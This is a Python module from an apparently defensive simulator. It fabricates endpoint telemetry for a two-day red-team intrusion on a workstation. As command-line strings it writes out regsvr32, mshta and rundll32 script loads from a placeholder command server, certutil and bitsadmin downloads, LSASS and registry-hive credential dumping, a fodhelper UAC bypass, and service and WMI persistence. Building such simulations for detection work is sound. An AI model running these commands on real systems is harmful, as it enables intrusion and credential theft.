"""The red-team exercise on its beachhead workstation (docs/simulator.md, "The red-team exercise").

Day one: the user opens a macro workbook downloaded from the operators' server; Excel starts
``regsvr32 /i:http… scrobj.dll``, whose scriptlet runs an encoded PowerShell download cradle: the
beacon. Through an interactive ``cmd.exe`` the operators run Qakbot-style discovery, fetch AdFind
with ``bitsadmin /transfer`` and dump the directory, then fetch their implant with ``certutil
-urlcache`` / ``-decode`` and leave a Run value (mshta) and a scheduled task (rundll32
``javascript:``). Day two: the user signs in again and both fire; the operators bypass UAC with
fodhelper, dump LSASS (procdump, comsvcs.dll MiniDump) and the SAM/SYSTEM/SECURITY hives, install a
service and a WMI event subscription, and sweep the network on port 445.
"""

from __future__ import annotations

import base64
import uuid
from datetime import datetime, timedelta

from .seed_intrusion_kit import (INTRUSION_C2_DOMAIN, INTRUSION_C2_IP, INTRUSION_IMPLANT, INTRUSION_LURE,
                                 INTRUSION_LURE_URL, INTRUSION_POWERSHELL, INTRUSION_RUN_VALUE, INTRUSION_SCT_URL,
                                 INTRUSION_SERVICE, INTRUSION_TASK, INTRUSION_TOOL_DIR, INTRUSION_WMI_NAME,
                                 Host, Plan, Run, tool_hashes)

__all__ = ["SYS32", "Beachhead", "write_beachhead"]

SYS32 = r"C:\Windows\System32"
_PS = rf"{SYS32}\WindowsPowerShell\v1.0"
_OFFICE = r"C:\Program Files\Microsoft Office\root\Office16"
_EDGE = r"C:\Program Files (x86)\Microsoft\Edge\Application"
_SYSINTERNALS = "Sysinternals - www.sysinternals.com"
_TOOLS = INTRUSION_TOOL_DIR
_C2 = f"http://{INTRUSION_C2_DOMAIN}"
_HTA = f"mshta.exe {_C2}/p/update.hta"
_JS = (r'rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();'
       f'GetObject("script:{_C2}/r.sct")')
#: What the interactive shell runs on day one: (program, command line as typed, net1 follows).
_DISCOVERY = [("whoami.exe", "whoami /all"), ("HOSTNAME.EXE", "hostname"), ("systeminfo.exe", "systeminfo"),
              ("ipconfig.exe", "ipconfig /all"), ("ARP.EXE", "arp -a"), ("ROUTE.EXE", "route print"),
              ("NETSTAT.EXE", "netstat -nao"), ("cmd.exe", "cmd /c set"), ("net.exe", "net config workstation"),
              ("net.exe", "net user /domain"), ("net.exe", 'net group "Domain Admins" /domain'),
              ("net.exe", 'net group "Enterprise Admins" /domain'), ("net.exe", "net localgroup administrators"),
              ("net.exe", "net share"), ("net.exe", "net view /all"), ("nltest.exe", "nltest /dclist:{domain}"),
              ("nltest.exe", "nltest /domain_trusts /all_trusts"), ("tasklist.exe", "tasklist /v"),
              ("quser.exe", "quser"),
              ("nslookup.exe", "nslookup -querytype=ALL -timeout=10 _ldap._tcp.dc._msdcs.{domain}")]
#: AdFind runs (arguments, output file, the LDAP query type and filter the domain controller sees).
_ADFIND = [('-f "(objectcategory=person)"', "ad_users.txt", "AllUsers", "(objectCategory=person)"),
           ('-f "objectcategory=computer"', "ad_computers.txt", "AllComputers", "(objectCategory=computer)"),
           ('-f "(objectcategory=organizationalUnit)"', "ad_ous.txt", "AllOrganizationalUnits",
            "(objectCategory=organizationalUnit)"),
           ("-sc trustdmp", "trustdmp.txt", "AllTrustDomains", "(objectClass=trustedDomain)"),
           ("-subnets -f (objectCategory=subnet)", "subnets.txt", "AllSubnets", "(objectCategory=subnet)"),
           ('-f "(objectcategory=group)"', "ad_group.txt", "AllGroups", "(objectCategory=group)"),
           ("-gcb -sc trustdmp", "trustdmp.txt", "AllTrustDomains", "(objectClass=trustedDomain)")]
_RECON_SCRIPT = ("Get-ADComputer -Filter * -Properties OperatingSystem,LastLogonDate | Select-Object Name,"
                 rf"OperatingSystem,LastLogonDate | Export-Csv {_TOOLS}\c.csv -NoTypeInformation")

_ADMINS_SCRIPT = ('Get-ADGroupMember -Identity "Domain Admins" -Recursive | Select-Object SamAccountName; '
                  "whoami /groups")


class Beachhead:
    """The processes the later phases act from: the day-two beacon, the elevated implant and
    its shell, and the user's desktop."""

    def __init__(self, beacon: Run, implant: Run, shell: Run, explorer: Run) -> None:
        self.beacon, self.implant, self.shell, self.explorer = beacon, implant, shell, explorer


def _floor(at: datetime, seconds: int) -> datetime:
    epoch = at.timestamp()
    return at - timedelta(seconds=epoch % seconds)


def _beacons(h: Host, run: Run, first: datetime, count: int, every_minutes: int) -> None:
    for i in range(count):
        h.connect(run, first + timedelta(minutes=every_minutes * i, seconds=h.rng.randrange(0, 40)),
                  INTRUSION_C2_IP, 443, INTRUSION_C2_DOMAIN)


def write_beachhead(p: Plan) -> Beachhead:
    h, user = p.beachhead, p.user
    t0 = p.at("initial_access")
    explorer = h.running("explorer.exe", r"C:\Windows", "explorer.exe", t0 - timedelta(hours=3), user)
    beacon = _initial_access(p, h, explorer, t0)
    shell = _discovery(p, h, beacon)
    _ad_recon(p, h, beacon)
    _persistence(p, h, shell)
    explorer2, beacon2 = _relogon(p, h)
    implant, admin_shell = _credential_access(p, h, beacon2)
    _smb_sweep(p, h, implant)
    return Beachhead(beacon2, implant, admin_shell, explorer2)


def _initial_access(p: Plan, h: Host, explorer: Run, t0: datetime) -> Run:
    user = p.user
    edge = h.running("msedge.exe", _EDGE, '"msedge.exe"', t0 - timedelta(hours=2), user, explorer)
    lure = rf"C:\Users\{user.name}\Downloads\{INTRUSION_LURE}"
    h.connect(edge, t0 - timedelta(minutes=3, seconds=4), INTRUSION_C2_IP, 443, INTRUSION_C2_DOMAIN)
    h.file(edge, t0 - timedelta(minutes=3), "FileCreated", lure, hashes=tool_hashes(INTRUSION_LURE), size=61_440,
           FileOriginUrl=INTRUSION_LURE_URL, FileOriginIP=INTRUSION_C2_IP)
    excel = h.start(explorer, t0, "EXCEL.EXE", _OFFICE, rf'"{_OFFICE}\EXCEL.EXE" "{lure}"')
    regsvr = h.start(excel, t0 + timedelta(seconds=40), "regsvr32.exe", SYS32,
                     f"regsvr32.exe /s /n /u /i:{INTRUSION_SCT_URL} scrobj.dll")
    h.load(regsvr, t0 + timedelta(seconds=41), rf"{SYS32}\scrobj.dll")
    h.connect(regsvr, t0 + timedelta(seconds=42), INTRUSION_C2_IP, 80, INTRUSION_C2_DOMAIN)
    beacon = h.start(regsvr, t0 + timedelta(seconds=45), "powershell.exe", _PS, INTRUSION_POWERSHELL)
    h.load(beacon, t0 + timedelta(seconds=46), rf"{SYS32}\amsi.dll")
    for i, command in enumerate(("New-Object", "Invoke-Expression")):
        h.event(beacon, t0 + timedelta(seconds=47 + i), "PowerShellCommand", {"Command": command},
                AccountName=p.user.name, AccountDomain=p.user.domain, AccountSid=p.user.sid)
    _beacons(h, beacon, t0 + timedelta(minutes=1), 16, 10)
    return beacon


def _discovery(p: Plan, h: Host, beacon: Run) -> Run:
    t = p.at("discovery")
    shell = h.start(beacon, t, "cmd.exe", SYS32, "cmd.exe")
    short = p.domain.split(".")[0]
    for i, (file, typed) in enumerate(_DISCOVERY):
        at = t + timedelta(seconds=30 + 35 * i + h.rng.randrange(0, 15))
        command = typed.format(domain=p.domain)
        run = h.start(shell, at, file, SYS32, command)
        if file == "net.exe" and command.split()[1] in ("user", "group", "localgroup", "config", "share", "view"):
            h.start(run, at + timedelta(milliseconds=180), "net1.exe", SYS32,
                    rf"C:\Windows\system32\net1  {command.split(' ', 1)[1]}")
        if command == "net user /domain":
            p.query(at, h, "SAMR query", "EnumerateUsers", short.upper(), "EnumerateUsers", "Samr", 445)
        elif command.startswith("net group"):
            group = command.split('"')[1]
            p.query(at, h, "SAMR query", "QueryGroup", group, "QueryGroup", "Samr", 445)
        elif file == "nslookup.exe":
            target = f"_ldap._tcp.dc._msdcs.{p.domain}"
            p.query(at, h, "DNS query", "SRV", target, target, "Dns", 53)
    return shell


def _ad_recon(p: Plan, h: Host, beacon: Run) -> None:
    t = p.at("ad_recon")
    h.start(beacon, t - timedelta(minutes=4), "bitsadmin.exe", SYS32,
                    rf"bitsadmin /transfer update /download /priority high {_C2}/t/AdFind.exe {_TOOLS}\AdFind.exe")
    bits = h.running("svchost.exe", SYS32, "svchost.exe -k netsvcs -p -s BITS", t - timedelta(days=2))
    h.connect(bits, t - timedelta(minutes=3, seconds=58), INTRUSION_C2_IP, 80, INTRUSION_C2_DOMAIN)
    h.file(bits, t - timedelta(minutes=3, seconds=50), "FileCreated", rf"{_TOOLS}\AdFind.exe",
           hashes=tool_hashes("AdFind.exe"), size=1_639_424, FileOriginUrl=f"{_C2}/t/AdFind.exe")
    start = _floor(t, 120) + timedelta(minutes=2, seconds=5)  # one two-minute bin, as the operators' batch runs
    base = ",".join(f"DC={part}" for part in p.domain.split("."))
    for i, (args, out, query_type, search) in enumerate(_ADFIND):
        at = start + timedelta(seconds=12 * i)
        cmd = h.start(beacon, at, "cmd.exe", SYS32, rf"C:\Windows\system32\cmd.exe /C AdFind.exe {args} > {out}")
        h.start(cmd, at + timedelta(milliseconds=300), "AdFind.exe", _TOOLS, f"AdFind.exe  {args}", tool=True,
                company="www.joeware.net")
        h.file(cmd, at + timedelta(seconds=2), "FileCreated" if out not in [a[1] for a in _ADFIND[:i]] else
               "FileModified", rf"{_TOOLS}\{out}", size=h.rng.randrange(8_000, 400_000))
        p.query(at + timedelta(seconds=1), h, "LDAP query", query_type, "",
                f"Search Scope: WholeSubtree, Base Object:{base}, Search Filter: {search}", "Ldap", 389)
    script = base64.b64encode(_RECON_SCRIPT.encode("utf-16-le")).decode()
    recon = h.start(beacon, start + timedelta(minutes=9), "powershell.exe", _PS,
                    f"powershell.exe -nop -exec bypass -EncodedCommand {script}")
    h.file(recon, start + timedelta(minutes=9, seconds=20), "FileCreated", rf"{_TOOLS}\c.csv", size=48_211)


def _persistence(p: Plan, h: Host, shell: Run) -> None:
    t = p.at("persistence")
    blob, implant = rf"{_TOOLS}\u.b64", rf"{_TOOLS}\{INTRUSION_IMPLANT}"
    fetch = h.start(shell, t, "certutil.exe", SYS32, f"certutil -urlcache -split -f {_C2}/d/u.b64 {blob}")
    h.connect(fetch, t + timedelta(seconds=1), INTRUSION_C2_IP, 80, INTRUSION_C2_DOMAIN)
    h.file(fetch, t + timedelta(seconds=3), "FileCreated", blob, size=412_944, FileOriginUrl=f"{_C2}/d/u.b64")
    decode = h.start(shell, t + timedelta(seconds=40), "certutil.exe", SYS32, f"certutil -decode {blob} {implant}")
    h.file(decode, t + timedelta(seconds=41), "FileCreated", implant, hashes=tool_hashes(INTRUSION_IMPLANT),
           size=309_760)
    run_key = rf"HKEY_CURRENT_USER\{p.user.sid}\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
    reg = h.start(shell, t + timedelta(minutes=2), "reg.exe", SYS32,
                  rf'reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {INTRUSION_RUN_VALUE} /t REG_SZ '
                  f'/d "{_HTA}" /f')
    h.registry(reg, t + timedelta(minutes=2, seconds=1), run_key, INTRUSION_RUN_VALUE, _HTA)
    when = (p.at("relogon") + timedelta(minutes=10)).strftime("%H:%M")
    h.start(shell, t + timedelta(minutes=4), "schtasks.exe", SYS32,
                       f'schtasks /create /tn "{INTRUSION_TASK}" /tr "{_JS.replace(chr(34), chr(92) + chr(34))}" '
                       f"/sc daily /st {when} /f")
    scheduler = h.running("svchost.exe", SYS32, "svchost.exe -k netsvcs -p -s Schedule", t - timedelta(days=2))
    tree = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree" + INTRUSION_TASK
    at = t + timedelta(minutes=4, seconds=1)
    h.registry(scheduler, at, tree, action="RegistryKeyCreated")
    h.registry(scheduler, at, tree, "Id", "{" + str(_guid(h)).upper() + "}")
    h.registry(scheduler, at, tree, "Index", "3", "Dword")
    h.file(scheduler, at, "FileCreated", rf"C:\Windows\System32\Tasks{INTRUSION_TASK}", size=3_412)


def _guid(h: Host) -> str:
    return str(uuid.UUID(int=h.rng.getrandbits(128), version=4))


def _relogon(p: Plan, h: Host) -> tuple[Run, Run]:
    """Day two: the user signs in; the Run value and the scheduled task call home."""
    t = p.at("relogon")
    h.logon(t, p.user, "Interactive", protocol="Negotiate")
    userinit = h.running("userinit.exe", SYS32, rf"{SYS32}\userinit.exe", t + timedelta(seconds=5), p.user)
    explorer = h.start(userinit, t + timedelta(seconds=8), "explorer.exe", r"C:\Windows", r"C:\Windows\Explorer.EXE")
    mshta = h.start(explorer, t + timedelta(seconds=40), "mshta.exe", SYS32, _HTA)
    h.load(mshta, t + timedelta(seconds=41), rf"{SYS32}\mshtml.dll")
    h.connect(mshta, t + timedelta(seconds=42), INTRUSION_C2_IP, 80, INTRUSION_C2_DOMAIN)
    beacon = h.start(mshta, t + timedelta(seconds=50), "powershell.exe", _PS, INTRUSION_POWERSHELL)
    _beacons(h, beacon, t + timedelta(minutes=1), 24, 10)
    scheduler = h.running("svchost.exe", SYS32, "svchost.exe -k netsvcs -p -s Schedule", t - timedelta(days=3))
    task = h.start(scheduler, t + timedelta(minutes=10), "rundll32.exe", SYS32, _JS, who=p.user, integrity="Medium")
    h.load(task, t + timedelta(minutes=10, seconds=1), rf"{SYS32}\mshtml.dll")
    h.connect(task, t + timedelta(minutes=10, seconds=2), INTRUSION_C2_IP, 80, INTRUSION_C2_DOMAIN)
    return explorer, beacon


def _credential_access(p: Plan, h: Host, beacon: Run) -> tuple[Run, Run]:
    t = p.at("credential_access")
    script = base64.b64encode(_ADMINS_SCRIPT.encode("utf-16-le")).decode()
    h.start(beacon, t - timedelta(minutes=20), "powershell.exe", _PS,
            f"powershell.exe -nop -exec bypass -EncodedCommand {script}")
    key = r"Software\Classes\ms-settings\Shell\Open\command"
    hkcu = rf"HKEY_CURRENT_USER\{p.user.sid}\{key}"
    implant_path = rf"{_TOOLS}\{INTRUSION_IMPLANT}"
    reg = h.start(beacon, t, "reg.exe", SYS32, rf'reg add HKCU\{key} /d "{implant_path}" /f')
    h.registry(reg, t + timedelta(seconds=1), hkcu, "(Default)", implant_path)
    reg = h.start(beacon, t + timedelta(seconds=5), "reg.exe", SYS32, rf"reg add HKCU\{key} /v DelegateExecute /f")
    h.registry(reg, t + timedelta(seconds=6), hkcu, "DelegateExecute", "")
    fod = h.start(beacon, t + timedelta(seconds=10), "fodhelper.exe", SYS32, "fodhelper.exe", integrity="High")
    implant = h.start(fod, t + timedelta(seconds=11), INTRUSION_IMPLANT, _TOOLS, implant_path, tool=True)
    reg = h.start(beacon, t + timedelta(seconds=30), "reg.exe", SYS32,
                  r"reg delete HKCU\Software\Classes\ms-settings /f")
    h.registry(reg, t + timedelta(seconds=31), rf"HKEY_CURRENT_USER\{p.user.sid}\Software\Classes\ms-settings",
               action="RegistryKeyDeleted")
    _beacons(h, implant, t + timedelta(minutes=1), 30, 15)
    shell = h.start(implant, t + timedelta(minutes=2), "cmd.exe", SYS32, "cmd.exe")
    lsass = {"FileName": "lsass.exe", "FolderPath": rf"{SYS32}\lsass.exe", "ProcessId": 700 + len(h.short)}
    at = t + timedelta(minutes=3)
    dump = h.start(shell, at, "procdump64.exe", _TOOLS, rf"procdump64.exe -accepteula -ma lsass.exe {_TOOLS}\lsass.dmp",
                   tool=True, company=_SYSINTERNALS)
    h.load(dump, at + timedelta(seconds=1), rf"{SYS32}\dbghelp.dll")
    h.event(dump, at + timedelta(seconds=1), "OpenProcessApiCall", {"DesiredAccess": 0x1FFFFF}, **lsass)
    h.file(dump, at + timedelta(seconds=4), "FileCreated", rf"{_TOOLS}\lsass.dmp", size=58_212_352)
    at = t + timedelta(minutes=5)
    minidump = h.start(shell, at, "rundll32.exe", SYS32,
                       rf"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {lsass['ProcessId']} "
                       rf"{_TOOLS}\debug.bin full")
    h.load(minidump, at + timedelta(milliseconds=400), rf"{SYS32}\comsvcs.dll")
    h.event(minidump, at + timedelta(seconds=1), "OpenProcessApiCall", {"DesiredAccess": 0x1FFFFF}, **lsass)
    h.file(minidump, at + timedelta(seconds=3), "FileCreated", rf"{_TOOLS}\debug.bin", size=57_884_672)
    for i, hive in enumerate(("SAM", "SYSTEM", "SECURITY")):
        at = t + timedelta(minutes=7, seconds=20 * i)
        save = h.start(shell, at, "reg.exe", SYS32, rf"reg save HKLM\{hive} {_TOOLS}\{hive.lower()}.save")
        h.file(save, at + timedelta(seconds=1), "FileCreated", rf"{_TOOLS}\{hive.lower()}.save",
               size={"SAM": 65_536, "SYSTEM": 17_465_344, "SECURITY": 45_056}[hive])
    _service_and_wmi(p, h, shell, t + timedelta(minutes=12))
    return implant, shell


def _service_and_wmi(p: Plan, h: Host, shell: Run, t: datetime) -> None:
    implant_path = rf"{_TOOLS}\{INTRUSION_IMPLANT}"
    h.start(shell, t, "sc.exe", SYS32,
            f'sc create {INTRUSION_SERVICE} binPath= "{implant_path}" start= auto DisplayName= "Telemetry Sync"')
    services = h.running("services.exe", SYS32, "services.exe", t - timedelta(days=3))
    key = rf"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\{INTRUSION_SERVICE}"
    h.registry(services, t + timedelta(seconds=1), key, action="RegistryKeyCreated")
    h.registry(services, t + timedelta(seconds=1), key, "ImagePath", implant_path, "ExpandString")
    h.event(services, t + timedelta(seconds=1), "ServiceInstalled",
            {"ServiceName": INTRUSION_SERVICE, "ServiceAccount": "LocalSystem", "ServiceStartType": 2,
             "ServiceType": 16}, FileName=INTRUSION_IMPLANT, FolderPath=implant_path)
    name = INTRUSION_WMI_NAME
    query = ("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
             "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240")
    for i, create in enumerate((
            f'PATH __EventFilter CREATE Name="{name}", EventNameSpace="root\\cimv2", QueryLanguage="WQL", '
            f'Query="{query}"',
            f'PATH CommandLineEventConsumer CREATE Name="{name}", CommandLineTemplate="{implant_path}"',
            f'PATH __FilterToConsumerBinding CREATE Filter="__EventFilter.Name=\\"{name}\\"", '
            f'Consumer="CommandLineEventConsumer.Name=\\"{name}\\""')):
        h.start(shell, t + timedelta(minutes=2, seconds=30 * i), "WMIC.exe", rf"{SYS32}\wbem",
                f'wmic /namespace:"\\\\root\\subscription" {create}')


def _smb_sweep(p: Plan, h: Host, implant: Run) -> None:
    """The implant knocks on port 445 of every device of the tenant (the Windows ones answer)."""
    t = p.at("smb_sweep")
    for i, d in enumerate(x for x in p.devices if x["id"] != h.d["id"]):
        windows = d["os"].startswith("Windows")
        h.connect(implant, t + timedelta(seconds=2 * i, milliseconds=h.rng.randrange(0, 900)), d["ip"], 445,
                  action="ConnectionSuccess" if windows else "ConnectionFailed", public=False)
